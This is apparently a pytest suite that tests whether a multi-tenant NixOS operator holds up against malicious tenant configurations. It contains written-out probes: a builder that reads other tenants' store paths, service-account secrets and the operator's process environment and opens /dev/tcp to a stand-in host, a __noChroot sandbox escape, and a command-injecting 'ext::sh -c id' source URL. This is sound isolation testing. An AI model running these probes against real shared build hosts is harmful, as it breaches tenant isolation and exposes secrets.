"""What authors of configurations try against the operator and other tenants: by their modules, not by objects."""

from __future__ import annotations

import shutil
import tarfile
from pathlib import Path
from typing import Any

import pytest
import yaml

from cluster import specs
from cluster.place import GIVEN_HOST, Place, condition
from nixops_lab.testing import Lab
from nixops_operator.ssh_keys import generate_ed25519

HOST = "host"
MARK = "only-for-the-first-tenant"
HASH = f"sha256-{'A' * 43}="
OPERATOR = {"build": {"on": "Operator"}}


def told(place: Place, machine: dict[str, Any], reason: str) -> str:
    """The message with which it is stalled."""
    place.apply(machine)
    return str(
        condition(place.await_condition("nixmachine", HOST, {"Stalled": f"True/{reason}"}), "Stalled")["message"]
    )


def on_operator(lab: Lab, module: str, **configuration: Any) -> dict[str, Any]:
    machine = specs.on_host(lab, module, HOST, activation=specs.QUICK)
    machine["spec"]["configuration"] |= OPERATOR | configuration
    return machine


@pytest.fixture
def first(place: Place) -> str:
    """Another tenant's file in the operator's store, that its machine serves: its path."""
    place.ssh_secret()
    place.apply(on_operator(place.lab, specs.page("First", f'environment.etc.mark.text = "{MARK}";')))
    place.wait_ready(f"nixmachine/{HOST}")
    path = place.on(GIVEN_HOST, "readlink", "-f", "/etc/mark")
    place.kubectl("delete", "nixmachine", HOST, "--timeout=60s")
    assert (place.lab.paths.operator / path.lstrip("/")).read_text() == MARK
    return path


def findings(path: str) -> str:
    """A builder that looks around; what it found is the title of the page."""
    builder = f"""
      mkdir $out
      {{
        echo "<html><head><title>looked around"
        test -e {path} && echo another-tenants-path
        test -e /var/run/secrets && echo service-account
        ls -d /home/nixops/?* && echo home
        grep -l NIXOPS_CONFIG /proc/[0-9]*/environ && echo operators-environment
        bash -c "exec 3<>/dev/tcp/203.0.113.80/80" && echo network
        echo "</title></head></html>"
      }} >$out/index.html 2>/dev/null"""
    root = f"""derivation {{
      name = "findings"; system = "x86_64-linux"; builder = "/bin/sh"; PATH = "/usr/bin:/bin";
      NIX_CONFIG = "substituters = http://203.0.113.80";
      args = [ "-c" ''{builder}'' ];
    }}"""
    return specs.page(
        "another",
        f"imports = [ {{ services.httpd.virtualHosts.localhost.documentRoot = lib.mkForce (toString ({root})); }} ];",
    )


def test_no_module_reads_what_another_tenant_has_in_the_store(place: Place, first: str) -> None:
    for expression in (f"builtins.readFile {first}", f'builtins.readFile "{first}"', f"builtins.storePath {first}"):
        said = told(place, on_operator(place.lab, specs.page(f"${{{expression}}}")), "EvaluationFailed")
        assert MARK not in said
        assert "forbidden" in said or "not valid" in said or "not allowed" in said, said

    hole = "environment.etc.hole.source = derivation { name = ''hole''; system = ''x86_64-linux''; __noChroot = true; "
    hole += "builder = ''/bin/sh''; };"
    assert "(__noChroot)" in told(place, on_operator(place.lab, specs.page("Never", hole)), "EvaluationFailed")

    place.apply(on_operator(place.lab, findings(first)))
    place.wait_ready(f"nixmachine/{HOST}")
    assert place.title(place.lab.env["LAB_HOST_ADDRESS"]) == "looked around"


@pytest.mark.parametrize("url", ["file:///etc", "path:/etc", "git+file:///etc", "ext::sh -c id"])
def test_a_source_is_fetched_from_the_web_alone(place: Place, url: str) -> None:
    machine = on_operator(place.lab, specs.page("Never"), source={"archive": {"url": url, "hash": HASH}})
    refused = place.lab.kubectl(
        f"--namespace={place.namespace}", "apply", "--filename=-", stdin=yaml.safe_dump(machine), check=False
    )
    assert refused.returncode != 0
    assert "archive.url" in refused.stderr


def archive(lab: Lab, folder: Path, title: str) -> None:
    """What the lab's server gives as /archive/moved.tar.gz from now on."""
    tree = folder / "tree"
    shutil.rmtree(tree, ignore_errors=True)
    tree.mkdir(parents=True)
    (tree / "machine.nix").write_text(specs.page(title))
    lab.paths.archives.mkdir(exist_ok=True)
    with tarfile.open(lab.paths.archives / "moved.tar.gz", "w:gz") as tar:
        tar.add(tree, "tree")


def test_what_lies_behind_a_hash_cannot_be_exchanged(place: Place, tmp_path: Path) -> None:
    place.ssh_secret()
    lab, address = place.lab, place.lab.env["LAB_HOST_ADDRESS"]
    url = f"{lab.env['LAB_CACHE_URL']}/archive/moved.tar.gz"

    def of(hash_: str, *more: dict[str, str]) -> dict[str, Any]:
        modules = [{"path": "machine.nix"}, {"inline": specs.HARDWARE}, *more]
        return on_operator(lab, "{ }", source={"archive": {"url": url, "hash": hash_}}, modules=modules)

    archive(lab, tmp_path, "As agreed")
    said = told(place, of(HASH), "SourceNotFound")
    right = said.split("has the hash ")[1].split(",")[0]
    place.apply(of(right))
    place.wait_ready(f"nixmachine/{HOST}")
    assert place.title(address) == "As agreed"

    archive(lab, tmp_path, "Exchanged")
    place.apply(of(right, {"inline": '{ networking.hostName = "again"; }'}))
    place.wait_ready(f"nixmachine/{HOST}")
    assert place.title(address) == "As agreed"
    other = right[:8] + ("B" if right[8] == "A" else "A") + right[9:]
    assert "has the hash" in told(place, of(other), "SourceNotFound")
    assert place.title(address) == "As agreed"


def test_a_secret_that_a_module_throws_is_told_nowhere(place: Place) -> None:
    place.ssh_secret()
    key = generate_ed25519().text.strip()  # nobody's: other tests look for real ones everywhere
    inner = key.splitlines()[2]
    head, tail = key[:12], key[12:]  # in one piece the API refuses it
    quoted = [part.replace("\n", "\\n") for part in (head, tail)]
    module = f'{{ networking.hostName = throw ("{quoted[0]}" + "{quoted[1]}"); }}'
    said = told(place, on_operator(place.lab, module), "EvaluationFailed")
    assert "[redacted]" in said
    events = [message for _, _, message in place.events(HOST)]
    assert all(inner not in text for text in (said, *events, place.lab.operator.log()))
